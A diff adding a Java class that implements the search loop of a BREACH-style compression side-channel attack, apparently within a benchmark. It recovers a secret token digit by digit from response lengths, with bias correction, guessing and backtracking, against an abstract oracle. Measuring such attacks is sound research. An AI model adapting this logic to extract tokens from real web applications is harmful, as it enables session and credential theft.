@@ -1,0 +1,177 @@
+// SPDX-License-Identifier: Apache-2.0
+package org.restcompress.bench.breach;
+
+import java.io.IOException;
+import java.util.ArrayDeque;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.Comparator;
+import java.util.Deque;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.stream.IntStream;
+import org.restcompress.bench.breach.statistics.Jittering;
+import org.restcompress.bench.breach.statistics.Rule;
+
+/**
+ * Takes a token digit by digit. A wrong digit shows in the next position, where then no digit makes the page shorter: the
+ * attacker goes back, and looks at the one before again.
+ */
+final class Attack {
+    /** Rounds that are asked for at once: a part of those that it took so far, as a decision may come in between. */
+    private static final int PART = 8;
+
+    private static final int MOST_ROUNDS_AT_ONCE = 8;
+
+    /** Of digits where none has shown. */
+    private static final int MOST_GUESSES = 2;
+
+    /** After so many returns to a position the first shapes' turn comes again. */
+    private static final int MOST_REHEARSALS = 4;
+
+    private final Oracle victim;
+    private final Rehearsal rehearsal;
+    private final Way way;
+    private final Mode mode;
+    private final Jittering jitter;
+    private final long budget;
+    private final long orders;
+    private final Deque<Position> positions = new ArrayDeque<>();
+    private final Map<String, Integer> visits = new HashMap<>();
+    private final StringBuilder digits = new StringBuilder();
+    private long requests;
+    private long returns;
+    private long rounds;
+
+    Attack(Oracle victim, Rehearsal rehearsal, Mode mode, Way way, long budget) {
+        this.victim = victim;
+        this.rehearsal = rehearsal;
+        this.way = way;
+        this.mode = mode;
+        this.jitter = mode.jittering();
+        this.budget = budget;
+        this.orders = mode.orders();
+    }
+
+    /** Goes on until there is a whole token, nothing more to ask, or the budget is spent. */
+    Outcome run() throws IOException {
+        positions.push(new Position(false));
+        while (digits.length() < Page.TOKEN_LENGTH) {
+            Position position = positions.element();
+            Rule.Verdict verdict = decide(position);
+            if (verdict instanceof Rule.Digit digit) {
+                position.isGuessed = false;
+                goOn(digit.value());
+            } else if (verdict instanceof Rule.NoDigit && position.mayGuess()) {
+                goOn(position.guess());
+            } else if (verdict instanceof Rule.NoDigit) {
+                goBack();
+            } else {
+                break;
+            }
+        }
+        return new Outcome(digits.toString(), requests);
+    }
+
+    private void goOn(int digit) {
+        digits.append(Shape.DIGITS.charAt(digit));
+        positions.push(new Position(positions.element().isGuessed));
+    }
+
+    private void goBack() {
+        positions.pop();
+        returns++;
+        if (positions.isEmpty()) {
+            positions.push(new Position(false));
+            return;
+        }
+        int last = digits.length() - 1;
+        if (!positions.element().isGuessed) {
+            positions.element().rule.refute(Shape.DIGITS.indexOf(digits.charAt(last)));
+        }
+        digits.setLength(last);
+    }
+
+    private Rule.Verdict decide(Position position) throws IOException {
+        Rule rule = position.rule;
+        Rule.Verdict verdict = rule.verdict();
+        for (long before = rounds; verdict instanceof Rule.Open && requests < budget; verdict = rule.verdict()) {
+            ask(rule, position.shapes, (int) Math.min(MOST_ROUNDS_AT_ONCE, 1 + (rounds - before) / PART));
+        }
+        return verdict;
+    }
+
+    private void ask(Rule rule, List<Shape> shapes, int atOnce) throws IOException {
+        List<Integer> candidates = rule.candidates();
+        List<String> queries = new ArrayList<>();
+        List<Integer> used = new ArrayList<>();
+        for (int round = 0; round < atOnce; round++) {
+            long order = way.varies() ? rounds % orders : returns;
+            int shape = rule.shape(round);
+            for (int digit : candidates) {
+                queries.add(shapes.get(shape).trying(Page.BEFORE_TOKEN + digits, digit, order));
+            }
+            used.add(shape);
+            rounds++;
+        }
+        int[] lengths = victim.lengths(queries);
+        requests += lengths.length;
+        for (int round = 0; round < atOnce; round++) {
+            int shape = used.get(round);
+            // What was asked for too much is counted, and no use.
+            if (rule.verdict() instanceof Rule.Open && shape == rule.shape(0)) {
+                int from = round * candidates.size();
+                int[] ofRound = Arrays.copyOfRange(lengths, from, from + candidates.size());
+                rule.add(
+                        candidates,
+                        unbiased(candidates, ofRound, shapes.get(shape)),
+                        shapes.get(shape).gains());
+            }
+        }
+    }
+
+    private static double[] unbiased(List<Integer> candidates, int[] lengths, Shape shape) {
+        return IntStream.range(0, lengths.length)
+                .mapToDouble(i -> lengths[i] - shape.biases().get(candidates.get(i)))
+                .toArray();
+    }
+
+    /**
+     * One digit. Where no digit shows, the one before may be wrong; or a right one makes no difference here, because what it
+     * saves is lost elsewhere in the page. Then those that showed least at the rehearsal are tried, and one of them is right if
+     * the next position shows a digit.
+     */
+    private final class Position {
+        private final List<Shape> shapes;
+        private final Rule rule;
+        private final boolean isBehindGuess;
+        private boolean isGuessed;
+        private int guesses;
+
+        Position(boolean isBehindGuess) {
+            String known = digits.toString();
+            this.shapes = rehearsal.shapes(known, visits.merge(known, 1, Integer::sum) % MOST_REHEARSALS);
+            this.rule = way.rule(jitter, shapes.size(), mode.isDeterministic());
+            this.isBehindGuess = isBehindGuess;
+        }
+
+        boolean mayGuess() {
+            return !isBehindGuess && guesses < MOST_GUESSES;
+        }
+
+        int guess() {
+            isGuessed = true;
+            return byVisibility().get(guesses++);
+        }
+
+        private List<Integer> byVisibility() {
+            return IntStream.range(0, Shape.DIGITS.length())
+                    .boxed()
+                    .sorted(Comparator.comparingDouble(digit -> shapes.stream()
+                            .mapToDouble(shape -> shape.gains().get(digit))
+                            .sum()))
+                    .toList();
+        }
+    }
+}
